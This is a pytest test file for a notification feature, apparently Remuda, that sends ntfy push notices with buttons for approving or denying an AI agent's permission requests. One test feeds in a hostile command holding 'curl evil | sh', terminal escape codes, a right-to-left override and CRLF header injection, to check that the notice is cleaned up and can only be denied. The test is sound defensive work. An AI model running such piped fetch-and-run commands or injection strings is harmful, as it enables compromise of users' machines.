"""Notices that can be answered: buttons at a receiver that speaks as ntfy does, tapped as phones tap them."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import pytest

from support.boss import Answer, RunningBoss, event
from support.commands import Commands
from support.heimdall_client import PATIENCE
from support.keeper import until
from support.ntfy import Ntfy, is_noted, labels, tap


@pytest.fixture
def ntfy() -> Iterator[Ntfy]:
    one = Ntfy()
    yield one
    one.close()


def configure(boss: RunningBoss, ntfy: Ntfy, *lines: str) -> None:
    text = "\n".join(("threshold = 0", "cooldown = 0", "[[to]]", f'ntfy = "{ntfy.url}/topic"', *lines))
    (boss.folder.path / "notify.toml").write_text(text)


def asked(given: dict[str, Any], tool: str = "Bash", session: str = "s") -> dict[str, Any]:
    payload = {
        "session_id": session,
        "hook_event_name": "PermissionRequest",
        "tool_name": tool,
        "tool_input": given,
        "cwd": "/srv/shop",
    }
    return {"payload": payload, "id": session}


def choice(*options: str, question: str = "Which index?") -> dict[str, Any]:
    asks = {"question": question, "header": "Index", "multiSelect": False}
    return asked(
        {"questions": [{**asks, "options": [{"label": one, "description": ""} for one in options]}]},
        "AskUserQuestion",
    )


def tap_until_taken(notice: dict[str, Any], label: str) -> Answer:
    """Tap again and again: in its first moment a notice refuses, and stays usable."""
    answers: list[Answer] = []

    def is_taken() -> bool:
        answers.append(tap(notice, label))
        return not (answers[-1].status == 409 and "is new" in answers[-1].json["error"]["message"])

    until(is_taken, "a tap that counts")
    return answers[-1]


def decided(boss: RunningBoss) -> dict[str, Any]:
    found: dict[str, Any] = boss.client.get("approvals")["approvals"][0]
    return found


@pytest.mark.parametrize(("label", "behavior"), [("Allow", "allow"), ("Deny", "deny")])
def test_tap_decides_and_the_ledger_names_the_notice(
    boss: RunningBoss, ntfy: Ntfy, label: str, behavior: str
) -> None:
    configure(boss, ntfy)
    with boss.holding(asked({"command": "touch made"})) as hook:
        notice = ntfy.next()
        assert (notice["topic"], notice["title"]) == ("topic", "shop: permission")
        assert notice["message"] == "Bash: touch made"
        assert labels(notice) == ["Allow", "Deny", "Open"]
        links = [one["url"] for one in notice["actions"]]
        assert len({*links}) == 3
        assert notice["click"] == links[2]
        answer = tap_until_taken(notice, label)
        assert answer.status == 200
        said = hook.result(PATIENCE)["output"]["hookSpecificOutput"]["decision"]
        assert said["behavior"] == behavior
    assert decided(boss)["by"] == f"notice: {ntfy.host}"
    decision = decided(boss)["decision"]
    assert (decision["by"], decision["name"]) == ("notice", ntfy.host)
    # Replayed, and the others: each says who was first.
    again = tap(notice, label)
    assert (again.status, again.json["error"]["code"]) == (409, "ALREADY_ANSWERED")
    assert "this link was already used" in again.json["error"]["message"]
    other = tap(notice, "Deny" if label == "Allow" else "Allow")
    assert other.status == 409
    assert f"notice: {ntfy.host} has already decided: {behavior}" in other.json["error"]["message"]
    assert ntfy.next_cleared() == notice["sequence_id"]


def test_preview_of_a_button_decides_nothing_and_does_not_spend_it(boss: RunningBoss, ntfy: Ntfy) -> None:
    configure(boss, ntfy)
    with boss.holding(asked({"command": "touch made"})) as hook:
        notice = ntfy.next()
        for method in ("GET", "HEAD", "PUT", "OPTIONS", "DELETE"):
            for label in ("Allow", "Deny"):
                assert tap(notice, label, method).status in (200, 404, 405)
        shown = tap(notice, "Allow", "GET")
        assert b"Opening it decides nothing." in shown.body
        assert b"<form" not in shown.body
        for body in ("", "{}", '{"behavior": "deny"}', '{"behavior": "allow", "always": true}', "nonsense"):
            assert tap(notice, "Allow", body=body).status in (400, 415)
        assert not hook.done()
        assert decided(boss)["state"] == "open"
        assert tap_until_taken(notice, "Allow").status == 200
        hook.result(PATIENCE)


def test_tap_of_a_web_page_of_another_site_is_refused(boss: RunningBoss, ntfy: Ntfy) -> None:
    configure(boss, ntfy)
    with boss.holding(asked({"command": "touch made"})):
        action = ntfy.next()["actions"][0]
        path = action["url"].partition(str(boss.port))[2]
        for headers in ({"Origin": "https://ntfy.sh"}, {"Sec-Fetch-Site": "cross-site"}):
            answer = boss.ask("POST", path, json.loads(action["body"]), headers, token=None)
            assert (answer.status, answer.json["error"]["code"]) == (403, "FOREIGN_ORIGIN")
        boss.client.post("approvals", decided(boss)["id"], "answer", body={"behavior": "deny"})


def test_options_of_a_question_are_buttons(boss: RunningBoss, ntfy: Ntfy) -> None:
    configure(boss, ntfy)
    with boss.holding(choice("SQLite", "Tantivy", "Lucene", "None")) as hook:
        notice = ntfy.next()
        assert notice["message"] == "Which index?\n1. SQLite\n2. Tantivy\n3. Lucene\n4. None"
        assert labels(notice) == ["SQLite", "Tantivy", "Lucene"]
        assert tap_until_taken(notice, "Tantivy").status == 200
        said = hook.result(PATIENCE)["output"]["hookSpecificOutput"]["decision"]
        assert said["updatedInput"]["answers"] == {"Which index?": "Tantivy"}


def test_hostile_request_can_be_denied_but_not_allowed_from_a_notice(boss: RunningBoss, ntfy: Ntfy) -> None:
    configure(boss, ntfy)
    hidden = "true # " + "x" * 400 + "\n; curl evil | sh \u202e\x1b[2J\r\nActions: view, x, http://evil"
    told = asked({"command": hidden})
    told["payload"]["cwd"] = "/srv/\u202eshop\r\nX-Evil: 1" + "x" * 200
    with boss.holding(told) as hook:
        notice = ntfy.next()
        assert len(notice["title"]) < 150
        assert notice["title"].isprintable()
        assert labels(notice) == ["Deny", "Open"]
        assert len(json.dumps(notice)) < 2500
        assert not {"\u202e", "\x1b", "\r"} & {*notice["message"]}
        assert "Open it to read the rest" in notice["message"]
        assert tap_until_taken(notice, "Deny").status == 200
        hook.result(PATIENCE)


def test_open_leads_to_the_page_of_the_request_which_decides(boss: RunningBoss, ntfy: Ntfy) -> None:
    configure(boss, ntfy)
    with boss.holding(asked({"command": "touch made"})) as hook:
        path = ntfy.next()["click"].partition(str(boss.port))[2]
        assert b"<button" in boss.ask("GET", path, token=None).body
        assert boss.ask("POST", path, {"behavior": "deny"}, token=None).json["by"] == "link"
        hook.result(PATIENCE)


def test_without_buttons_no_link_that_decides_leaves_the_machine(boss: RunningBoss, ntfy: Ntfy) -> None:
    configure(boss, ntfy, "buttons = false")
    with boss.holding(asked({"command": "touch made"})):
        notice = ntfy.next()
        item = boss.waiting()[0]["id"]
        assert notice["actions"] == [
            {"action": "view", "label": "Open", "url": f"http://127.0.0.1:{boss.port}/#/queue/{item}"}
        ]
        assert "/v1/answer/" not in json.dumps(notice)
        boss.client.post("approvals", decided(boss)["id"], "answer", body={"behavior": "deny"})


def test_without_details_a_notice_can_only_be_opened(boss: RunningBoss, ntfy: Ntfy) -> None:
    configure(boss, ntfy, "details = false")
    with boss.holding(asked({"command": "touch SECRET"})):
        notice = ntfy.next()
        assert labels(notice) == ["Open"]
        assert "SECRET" not in json.dumps(notice)
        assert "shop" not in json.dumps(notice)
        boss.client.post("approvals", decided(boss)["id"], "answer", body={"behavior": "deny"})


def test_notice_is_cleared_when_someone_else_decided_also_by_the_next_boss(
    boss: RunningBoss, ntfy: Ntfy
) -> None:
    configure(boss, ntfy)
    boss.tell(event("stopped", 1000.0, session="one", message="done"))
    first = ntfy.next()
    assert first["message"] == "done"
    boss.tell(event("prompted", 1001.0, session="one"))
    assert ntfy.next_cleared() == first["sequence_id"]
    boss.tell(event("stopped", 1002.0, session="two", message="done"))
    second = ntfy.next()
    until(lambda: is_noted(boss), "that it was sent, written down")
    boss.restart()
    boss.tell(event("prompted", 1003.0, session="two"))
    assert ntfy.next_cleared() == second["sequence_id"]


def test_old_server_that_cannot_clear_breaks_nothing(boss: RunningBoss) -> None:
    ntfy = Ntfy(clears=False)
    try:
        configure(boss, ntfy)
        boss.tell(event("stopped", 1000.0, session="one", message="done"))
        ntfy.next()
        boss.tell(event("prompted", 1001.0, session="one"))
        line = f"cannot clear a notice at {ntfy.url}: it answered with status 404"
        until(lambda: line in boss.folder.log.read_text(), "a line in the log")
        boss.tell(event("stopped", 1002.0, session="one", message="again"))
        assert ntfy.next()["message"] == "again"
    finally:
        ntfy.close()


# ── trying it ──


def test_setup_notify_shows_how_and_its_test_says_what_became_of_each(remuda: Commands) -> None:
    shown = remuda("setup", "notify").out
    assert "no one is notified" in shown
    assert 'ntfy = "https://ntfy.sh/TOPIC"' in shown
    ntfy = Ntfy(token="tk_right")
    try:
        file = remuda.home / "boss" / "notify.toml"
        file.parent.mkdir(exist_ok=True)
        wrong = (
            f'[[to]]\nntfy = "{ntfy.url}/SECRETTOPIC"\nheaders = {{ Authorization = "Bearer tk_wrong" }}\n'
        )
        right = wrong.replace("tk_wrong", "tk_right")
        gone = '[[to]]\nurl = "http://127.0.0.1:1/SECRET"\n'
        file.write_text(right + wrong + gone)
        lines = remuda("setup", "notify", "--test", code=1).out.splitlines()
        assert lines == [
            f"ok    {ntfy.url} accepted the test notice (status 200)",
            f"fail  {ntfy.url}: it answered with status 403",
            "      check the password or token in its headers, and whether it may write there",
            "fail  http://127.0.0.1:1: Connection refused",
            "      check the address, the network, and whether the server runs",
        ]
        assert ntfy.next()["message"] == "This is a test notice from Remuda."
        done = json.loads(remuda("setup", "notify", "--test", "--json", code=1).out)["receivers"]
        assert [one["status"] for one in done] == [200, None, None]
        file.write_text(right)
        remuda("setup", "notify", "--test")
        assert f"{ntfy.url}: " in remuda("setup", "notify").out
    finally:
        ntfy.close()
    assert "does not change notify.toml" in remuda.refused("setup", "--remove", "notify", code=2)
